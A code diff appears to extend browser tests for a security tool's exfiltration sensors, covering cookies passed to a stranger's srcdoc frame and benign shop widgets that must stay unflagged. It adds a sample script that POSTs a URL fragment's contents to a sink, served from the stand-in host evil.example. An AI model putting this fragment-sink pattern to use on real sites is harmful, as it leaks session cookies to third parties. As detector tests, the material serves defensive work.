@@ -27,6 +27,8 @@ const PRODUCT = '/kz/product/snow-leopard-silver';
 const LOGIN = '/kz/login';
 const BEHAVIOUR = 'exfiltration';
 const helper = (name: string): string => `https://${HELPER_CDN}/${name}.js`;
+/** A stranger's page that sends on what its address's fragment carries. */
+const FRAGMENT_SINK = "fetch('/frame-sink', { method: 'POST', body: decodeURIComponent(location.hash.slice(1)) });";
 const to = (prefix: string) => (verdict: Verdict) => String(verdict.finding.evidence.url).startsWith(prefix);
 
 describeEachBrowser('MAIN-world sensors: exfiltration', (context) => {
@@ -920,11 +922,12 @@ describeEachBrowser('MAIN-world sensors: exfiltration', (context) => {
         ['stranger-frame-shielded', 'behind a srcdoc taken away later'],
         ['stranger-frame-srcdoc', "by a srcdoc frame's own markup"],
         ['stranger-frame-editor', "by execCommand('insertHTML')"],
+        ['stranger-frame-srcdoc-script', 'by the script of a srcdoc frame it wrote'],
       ] as const
     ).map(([fixture, how]): [MainWorldScript, string, string, string] => [
       fixture,
       `in its address's fragment, ${how}`,
-      "fetch('/frame-sink', { method: 'POST', body: decodeURIComponent(location.hash.slice(1)) });",
+      FRAGMENT_SINK,
       'SAQ-EXF-003',
     ]),
   ];
@@ -956,6 +959,52 @@ describeEachBrowser('MAIN-world sensors: exfiltration', (context) => {
         "the frame's request with the cookie",
       );
     });
+
+  it("names the helper for its srcdoc frame's code after the shop's own srcdoc widget drew", async ({ task }) => {
+    const fixture = 'stranger-frame-after-shop';
+    context.shop.setFixture('/frame-after-shop.html', `<!doctype html><script>${FRAGMENT_SINK}</script>`, {
+      host: 'evil.example',
+      contentType: 'text/html; charset=utf-8',
+    });
+    context.shop.setFixture('/assets/srcdoc-widget.js', BENIGN['srcdoc-widget'], { contentType: 'text/javascript' });
+    context.shop.setFixture(
+      '/kz/srcdoc-mixed',
+      '<!doctype html><html lang="kk"><head><meta charset="utf-8"></head><body><h1>Ілбіс</h1><script src="/assets/srcdoc-widget.js"></script></body></html>',
+    );
+    serve(context, fixture);
+    const saq = await browser();
+    await visit(saq, PRODUCT); // the shop's cookie: that page starts the session
+    const { tabId } = await visit(saq, `/kz/srcdoc-mixed?saq-tag=${fixture}`);
+    const verdict = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) =>
+      String(v.finding.evidence.url).startsWith('https://evil.example/frame-after-shop.html'),
+    );
+    recordCase(task, {
+      behaviour: BEHAVIOUR,
+      case: "cookie handed to a stranger's frame by a srcdoc frame's script, after the shop's own srcdoc",
+      malicious: true,
+      flagged: verdict !== null,
+      browser: browserName,
+    });
+    // The shop's srcdoc came first: its writer must not name the helper's srcdoc code.
+    expect(verdict?.finding.actor.url).toBe(helper(fixture));
+  });
+
+  silentAfterShopScript(
+    "stays silent for a srcdoc frame of the shop's whose own script shows another site's pages",
+    "shop's srcdoc frame's script showing another site's pages",
+    {
+      name: 'srcdoc-widget',
+      script: BENIGN['srcdoc-widget'],
+      doneFlag: '__srcdocWidget',
+      // The frames were shown: there was something to judge.
+      then: () =>
+        eventually(
+          async () => context.shop.requests.filter((r) => r.host === 'media.partner.test').length,
+          (count) => count >= 3,
+          "the partner's pages",
+        ).then(() => undefined),
+    },
+  );
 
   silentAfterShopScript(
     "stays silent for the shop's own frames, object and embed showing another site's page",
